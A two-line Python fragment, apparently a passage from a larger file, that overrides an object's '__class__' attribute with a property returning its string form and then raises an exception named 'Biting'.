    __class__ = property(lambda self: self.__str__())
raise Biting()
